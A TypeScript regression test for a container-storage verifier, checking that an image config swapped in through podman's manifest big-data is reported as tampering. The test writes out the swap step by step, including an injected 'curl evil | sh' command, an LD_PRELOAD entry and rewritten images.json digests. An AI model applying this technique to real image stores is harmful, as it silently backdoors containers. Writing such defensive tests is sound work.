/**
 * ATTACK (containers/storage): an image's config replaced by writing a new config big-data item and pointing the
 * image's `manifest` big-data at it (config.digest), leaving images.json alone.
 *
 * Observed: the new config hashes to the key the manifest names, so all that is said is the WARNING
 * `images.id-not-config` ("its ID is not its config's digest ... images podman builds or pulls by an OCI or
 * schema-2 manifest have equal ones"); `inspect --image` shows the injected Cmd and `LD_PRELOAD`; `report` exits 0
 * and `verify` says "OK", exit 0. The manifest itself no longer hashes to the image's digest in images.json
 * (`digest`/`digests`, which c/storage sets from the `manifest` item), and that is not checked.
 * Expected: tampering never passes silently: a manifest whose bytes are not one of the image's recorded digests,
 * or an OCI/schema-2 manifest whose config is not the image ID, is an ERROR naming the file; verify is not OK.
 * Fix (made, src/core/sources/containers-storage/index.ts readImage): the manifest big-data is hashed and must be
 * one of the image's digests; an OCI/schema-2 manifest (schemaVersion 2) whose config digest is not the image ID
 * is an error (the warning stays for schema 1, whose image IDs are no config digests), and a manifest naming a
 * config with another schemaVersion than 2 is an error too.
 */
import test, { type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { copyTree } from '../support/engine.js';
import { PODMAN, podmanStore } from '../support/podman.js';
import { runCmd } from '../workflows/helpers.js';
import { openSource } from '../../src/core/sources/open.js';
import { EXIT } from '../../src/cli/command.js';
import { verifyCommand } from '../../src/cli/commands/verify.js';
import { reportCommand } from '../../src/cli/commands/analysis.js';

const bigData = (key: string) => (/^[.0-9a-z]*$/.test(key) ? key : '=' + Buffer.from(key).toString('base64'));

test('containers/storage: a config swapped in through the manifest big-data is tampering, not a warning', { timeout: 300_000 }, async (t: TestContext) => {
  const store = await podmanStore(t, 'rootful');
  if (!store) return;
  const copy = fs.mkdtempSync(path.join(os.tmpdir(), 'ls-a10-cfg-'));
  try {
    const s = await openSource(store.storage);
    const base = s.images.find((i) => i.tags.includes(PODMAN.base))!;
    await s.close();
    const root = path.join(copy, 'storage');
    await copyTree(store.storage, root);
    const hex = base.id.slice('sha256:'.length);
    const dir = path.join(root, 'overlay-images', hex);
    assert.ok(fs.existsSync(path.join(dir, 'manifest')), 'the image has a manifest big-data item');
    const cfg = JSON.parse(fs.readFileSync(path.join(dir, bigData(base.id)), 'utf8'));
    cfg.config = { ...(cfg.config ?? {}), Cmd: ['/bin/sh', '-c', 'curl evil | sh'], Env: [...(cfg.config?.Env ?? []), 'LD_PRELOAD=/tmp/evil.so'] };
    const bytes = Buffer.from(JSON.stringify(cfg));
    const digest = 'sha256:' + crypto.createHash('sha256').update(bytes).digest('hex');
    fs.writeFileSync(path.join(dir, bigData(digest)), bytes);
    const m = JSON.parse(fs.readFileSync(path.join(dir, 'manifest'), 'utf8'));
    m.config.digest = digest;
    m.config.size = bytes.length;
    fs.writeFileSync(path.join(dir, 'manifest'), JSON.stringify(m));
    await check(root, dir);

    // The same, also claiming schema 1 (whose image IDs are no config digests) and with images.json's digest
    // rewritten to the new manifest's: still an error.
    m.schemaVersion = 1;
    const mb = Buffer.from(JSON.stringify(m));
    fs.writeFileSync(path.join(dir, 'manifest'), mb);
    const md = 'sha256:' + crypto.createHash('sha256').update(mb).digest('hex');
    const imagesFile = path.join(root, 'overlay-images', 'images.json');
    const records = JSON.parse(fs.readFileSync(imagesFile, 'utf8')) as { id: string; digest?: string; digests?: string[] }[];
    for (const rec of records) if (rec.id === hex) Object.assign(rec, { digest: md, digests: [md] });
    fs.writeFileSync(imagesFile, JSON.stringify(records));
    await check(root, dir);
  } finally {
    fs.rmSync(copy, { recursive: true, force: true });
    await store.remove();
  }
});

async function check(root: string, dir: string): Promise<void> {
  {

    const r = await runCmd(reportCommand, [root, '--format', 'json']);
    const doc = JSON.parse(r.stdout);
    const errors = (doc.problems as { severity: string; code: string; path: string | null }[]).filter((p) => p.severity === 'error' && p.path?.startsWith(dir));
    assert.ok(errors.length > 0, `an error naming a file of ${dir}; got ${JSON.stringify(doc.problems.map((p: { severity: string; code: string }) => `${p.severity} ${p.code}`))}`);
    assert.notEqual(r.code, EXIT.ok, 'report exit non-zero');
    const v = await runCmd(verifyCommand, [root, '--no-mount', '--image', PODMAN.base]);
    assert.notEqual(v.code, EXIT.ok, `verify must not pass: ${v.stdout}`);
  }
}
